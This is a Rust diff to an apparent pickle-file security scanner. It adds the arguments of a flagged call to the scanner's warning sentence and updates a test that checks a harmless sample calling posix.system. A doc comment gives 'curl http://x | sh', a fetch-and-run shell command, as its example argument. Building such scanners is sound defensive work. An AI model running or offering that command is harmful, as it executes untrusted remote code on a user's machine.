@@ -107,6 +107,7 @@ pub fn sentence(artifact: &Artifact, report: &Report) -> Sentence {
 fn danger(finding: &Finding, built: &str) -> (String, Option<String>) {
     let name = escape::plain(&finding.callable);
     let call = format!("{}{}", finding.callable, finding.arguments);
+    let given = given(&finding.arguments);
     let then = if built == "nothing" { String::new() } else { format!(", then build {built}") };
     match finding.rule.id {
         "danger-import" => (
@@ -124,10 +125,22 @@ fn danger(finding: &Finding, built: &str) -> (String, Option<String>) {
         _ => match names_capability(&finding.callable) {
             Some(capability) => {
                 let verb = capability_text(capability);
-                (format!("If loaded, this file would call {name} and {verb}{then}"), Some(call))
+                (format!("If loaded, this file would call {name}{given} and {verb}{then}"), Some(call))
             }
-            None => (format!("If loaded, this file would call {name}{then}"), Some(call)),
+            None => (format!("If loaded, this file would call {name}{given}{then}"), Some(call)),
         },
+    }
+}
+
+/// The arguments of a call in a sentence: ` with 'curl http://x | sh'`, the end of long ones left out.
+fn given(arguments: &str) -> String {
+    const ROOM: usize = 60;
+    let bare = arguments.strip_prefix('(').and_then(|rest| rest.strip_suffix(')')).unwrap_or(arguments);
+    let text = escape::plain(bare);
+    match text.char_indices().nth(ROOM) {
+        _ if text.is_empty() => String::new(),
+        Some((end, _)) => format!(" with {}…", text.get(..end).unwrap_or(&text)),
+        None => format!(" with {text}"),
     }
 }
 
@@ -251,7 +264,11 @@ mod tests {
         let flagged = of(std::fs::read(samples.join("flagged_call.pkl")).unwrap());
         assert_eq!(flagged.tone, Tone::Danger);
         assert_eq!(flagged.call.as_deref(), Some("posix.system('echo picklescope sample: this would have run')"));
-        assert!(flagged.text.ends_with("then build a scikit-learn LogisticRegression"), "{}", flagged.text);
+        assert_eq!(
+            flagged.text,
+            "If loaded, this file would call posix.system with 'echo picklescope sample: this would have run' and start a \
+             process or run a shell command, then build a scikit-learn LogisticRegression"
+        );
         assert_eq!(of(b"".to_vec()).text, "The file is empty");
         let torch = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/files/torch");
         let dict = of(std::fs::read(torch.join("state_dict.pt")).unwrap());
